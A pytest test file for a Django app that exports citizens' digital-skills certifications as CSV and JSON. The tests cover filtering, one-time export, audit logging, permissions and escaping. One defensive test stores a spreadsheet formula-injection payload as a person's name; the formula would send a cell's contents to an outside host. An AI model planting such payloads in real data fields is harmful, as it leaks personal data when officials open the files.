"""Export for national confirmation: CSV and JSON per unit and period, each certification once, logged, audited."""

import csv
import datetime
import io
import json

import pytest
from django.utils import timezone

from kynangso.credentials import national_export, services
from kynangso.credentials.models import Credential, NationalExport
from kynangso.errors import DomainError
from kynangso.people.models import PersonalDataAccess
from tests.credentials.conftest import passed_attempt
from tests.factories import make_person

pytestmark = pytest.mark.django_db


@pytest.fixture
def certified(issuer_keys, standard, resident, province):
    """Three certified people: two in commune A (one in March, one in January), one in commune B in March."""
    from kynangso.credentials import issuing

    march = timezone.make_aware(datetime.datetime(2026, 3, 10, 9))
    january = timezone.make_aware(datetime.datetime(2026, 1, 5, 9))
    people = [
        (resident, march),
        (make_person(province.a, full_name="Phạm Văn Cường"), january),
        (make_person(province.b, full_name="Đỗ Thị Dung"), march),
    ]
    for person, when in people:
        issuing.issue_for_attempt(passed_attempt(person, standard, submitted_at=when).pk)
    return people


def export(actor, unit, file_format="csv", start=datetime.date(2026, 3, 1), end=datetime.date(2026, 3, 31)):
    return national_export.export_certifications(
        actor=actor, unit=unit, period_start=start, period_end=end, file_format=file_format
    )


def test_the_csv_holds_the_certifications_of_the_unit_and_period(certified, provincial_admin, province, resident):
    exported = export(provincial_admin, province.a)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [row["ho_ten"] for row in rows] == ["Lê Thị Hoa"]
    row = rows[0]
    assert list(row) == list(national_export.COLUMNS)
    assert len(row["so_dinh_danh"]) == 12 and row["so_dinh_danh"].endswith(resident.national_id_last_digits)
    assert row["ngay_dat"] == "2026-03-10" and row["ma_thanh_tich"] == "THU" and row["ma_don_vi"] == "X001"
    assert row["duong_dan_kiem_tra"].startswith("https://kynangso.thunghiem.gov.vn/chung-nhan/")
    assert exported.filename.endswith(".csv")


def test_each_certification_is_exported_once(certified, provincial_admin, province):
    assert export(provincial_admin, province.root).export.row_count == 2
    again = export(provincial_admin, province.root)
    assert again.export.row_count == 0
    assert Credential.objects.filter(national_export__isnull=False).count() == 2


def test_the_json_file_says_what_it_holds(certified, provincial_admin, province):
    exported = export(provincial_admin, province.root, "json", start=datetime.date(2026, 1, 1))
    body = json.loads(exported.content)
    assert body["so_ban_ghi"] == 3 == len(body["ban_ghi"])
    assert body["don_vi"] == "T01" and body["tu_ngay"] == "2026-01-01" and body["den_ngay"] == "2026-03-31"
    assert set(body["ban_ghi"][0]) == set(national_export.COLUMNS)


def test_the_export_is_logged_with_who_and_when_and_every_id_read_is_audited(certified, provincial_admin, province):
    exported = export(provincial_admin, province.root)
    log = NationalExport.objects.get()
    assert log.created_by == provincial_admin and log.created_at and log.row_count == 2 and log.unit == province.root
    assert exported.export == log
    assert PersonalDataAccess.objects.filter(accessed_by=provincial_admin, channel="export").count() == 2


def test_a_revoked_certification_is_not_exported(certified, provincial_admin, province, resident):
    services.revoke_credential(
        credential=Credential.objects.get(person=resident), actor=provincial_admin, reason="Gian lận"
    )
    assert export(provincial_admin, province.a).export.row_count == 0


def test_a_later_download_of_an_export_gives_the_same_people(certified, provincial_admin, province):
    first = export(provincial_admin, province.root)
    again = national_export.reexport(export=first.export, actor=provincial_admin)
    assert again.content == first.content


def test_exporting_needs_the_export_capability_for_the_unit(certified, commune_admin, province):
    with pytest.raises(DomainError, match="không có quyền"):
        export(commune_admin, province.a)
    assert not NationalExport.objects.exists()


def test_the_export_page_downloads_the_file_and_shows_the_log(client, certified, provincial_admin, province):
    client.force_login(provincial_admin)
    response = client.post(
        "/chung-nhan/xuat/",
        {"unit": province.root.pk, "period_start": "2026-03-01", "period_end": "2026-03-31", "file_format": "json"},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("application/json")
    assert json.loads(response.content)["so_ban_ghi"] == 2
    page = client.get("/chung-nhan/xuat/").content.decode()
    assert "admin_tinh" in page and "Tỉnh Thử nghiệm" in page


def test_the_export_page_refuses_a_reversed_period(client, certified, provincial_admin, province):
    client.force_login(provincial_admin)
    response = client.post(
        "/chung-nhan/xuat/",
        {"unit": province.root.pk, "period_start": "2026-03-31", "period_end": "2026-03-01", "file_format": "csv"},
    )
    assert "Ngày kết thúc phải sau ngày bắt đầu." in response.content.decode()
    assert not NationalExport.objects.exists()


def test_a_name_that_looks_like_a_formula_reaches_the_csv_as_text(certified, provincial_admin, province, resident):
    """Issue 13, finding 4: «=HYPERLINK(…)» as a name must not run when the CSV is opened in a spreadsheet."""
    malicious = '=HYPERLINK("http://x?d="&B2,"x")'
    type(resident).objects.filter(pk=resident.pk).update(full_name=malicious)
    exported = export(provincial_admin, province.a)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert rows[0]["ho_ten"] == "'" + malicious
    assert len(rows[0]["so_dinh_danh"]) == 12  # the other columns are untouched


def test_sex_is_written_in_vietnamese_and_every_row_names_the_real_issuing_unit(
    certified, provincial_admin, province, standard, settings
):
    from kynangso.credentials import issuing
    from kynangso.orgs import api as orgs

    settings.CREDENTIAL_ISSUER_NAME = ""  # the letterhead the province chose, not a name from the settings
    orgs.save_letterhead(
        unit=province.department,
        superior_body="Ủy ban nhân dân tỉnh Thử Nghiệm",
        agency_name="Sở Khoa học và Công nghệ",
        place_name="Thử Nghiệm",
        signer_title="Giám đốc",
        issues_certificates=True,
    )
    man = make_person(province.a, full_name="Vũ Văn Em", sex="male")
    issuing.issue_for_attempt(
        passed_attempt(man, standard, submitted_at=timezone.make_aware(datetime.datetime(2026, 3, 12, 9))).pk
    )
    rows = list(csv.DictReader(io.StringIO(export(provincial_admin, province.a).content.decode("utf-8-sig"))))
    assert {row["ho_ten"]: row["gioi_tinh"] for row in rows} == {"Lê Thị Hoa": "Nữ", "Vũ Văn Em": "Nam"}
    assert {row["don_vi_cap"] for row in rows} == {"SỞ KHOA HỌC VÀ CÔNG NGHỆ, ỦY BAN NHÂN DÂN TỈNH THỬ NGHIỆM"}
    body = json.loads(export(provincial_admin, province.b, "json").content)
    assert body["phien_ban"] == "2"
    assert body["don_vi_cap"] == "SỞ KHOA HỌC VÀ CÔNG NGHỆ, ỦY BAN NHÂN DÂN TỈNH THỬ NGHIỆM"
    assert "Kỹ Năng Số" not in json.dumps(body, ensure_ascii=False)
